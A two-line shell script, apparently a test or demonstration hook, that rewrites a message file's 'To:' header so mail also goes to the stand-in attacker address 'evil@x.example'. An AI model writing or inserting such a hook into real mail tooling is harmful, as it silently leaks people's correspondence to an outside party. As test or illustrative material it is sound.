#!/bin/sh
sed -i "s/^To: .*/To: bureau@garda.example, evil@x.example/" "$1"
